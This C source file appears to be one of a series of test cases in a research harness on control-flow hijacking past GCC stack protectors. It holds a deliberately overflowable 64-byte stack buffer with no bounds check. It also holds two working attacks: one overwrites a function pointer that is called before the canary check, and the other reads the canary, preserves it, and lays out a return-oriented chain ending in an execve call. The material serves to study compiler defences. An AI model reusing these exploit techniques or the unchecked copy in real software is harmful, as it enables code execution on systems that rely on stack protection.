// A function with a stack protector, overflowed: attack 20. -fstack-protector-explicit protects the functions that ask for it.
#include "hijack.h"

// What is to be handed on, and to whom. It lies in the frame above the one that is overflowed.
struct parcel {
  void (*deliver)(word, word);
  word first, second;
};

static const char *received_at; // where the last record was put
static volatile unsigned received;

// It calls `deliver` before it returns, so before it looks at its canary.
NOINLINE __attribute__((stack_protect)) static void receive(const void *bytes, size_t size, struct parcel *parcel) {
  char record[64];
  char *volatile into = record;
  received_at = record;
  for (size_t n = 0; n < size; n++) into[n] = ((const char *)bytes)[n]; // `size` is not compared with 64
  parcel->deliver(parcel->first, parcel->second);
  received++;
}

// The words that are sent: the record, the canary, saved registers, the return address, the frame with the parcel. As they are first.
static word sent[4096 + 1024];
static size_t canary_at, parcel_at;

static void look_around(word parcel, word unused) {
  (void)unused;
  const word *seen = (const word *)received_at;
  word canary;
  __asm__("mov %%fs:0x28, %0" : "=r"(canary));
  parcel_at = (parcel - (word)seen) / 8;
  for (size_t n = 0; n <= parcel_at + 2; n++) {
    sent[n] = seen[n];
    if (seen[n] == canary && !canary_at) canary_at = n;
  }
  if (!canary_at) impossible("no canary behind the record");
}

// Learns by a harmless delivery how the frames lie, and then sends what `plan` makes of it: its size in bytes.
NOINLINE static void send_twice(size_t (*plan)(void)) {
  struct parcel parcel = {.deliver = look_around};
  parcel.first = (word)&parcel;
  for (int round = 0; round < 2; round++) receive(sent, round == 0 ? 0 : plan(), &parcel);
}

// The canary is not known, and overwritten; what the record is after lies behind it, and is used while the frame is still there.
static size_t past_the_canary(void) {
  sent[canary_at] = 0x4141414141414141;
  sent[parcel_at] = (word)launch;
  sent[parcel_at + 1] = (word)mark_argv[0];
  sent[parcel_at + 2] = (word)mark_line;
  return 8 * (parcel_at + 3);
}

// The canary is known, and left as it was: the function returns, and to the attacker's words.
static size_t with_the_canary(void) {
  word start, end;
  size_t return_at = canary_at + 1;
  if (!function_at((word)send_twice + 1, &start, &end)) impossible("no unwind table for the caller");
  while (return_at < parcel_at && (sent[return_at] <= start || sent[return_at] >= end)) return_at++;
  if (return_at == parcel_at) impossible("no return address behind the canary");
  end_at(joint); // the sled comes first: the parcel lies in what it bridges
  load_command_and_rax(execve_entry());
  jump_to_rax();
  size_t count = lay_out((word)received_at + 8 * return_at, sent + return_at, LENGTH(sent) - return_at);
  sent[parcel_at] = (word)checksum; // called on the way, and then returned into
  return 8 * (return_at + count);
}

static void canary_unknown(void) { send_twice(past_the_canary); }
static void canary_known(void) { send_twice(with_the_canary); }

const struct attack guard_attacks[] = {
    {"canary-unknown", canary_unknown},
    {"canary-known", canary_known},
    {NULL, NULL},
};
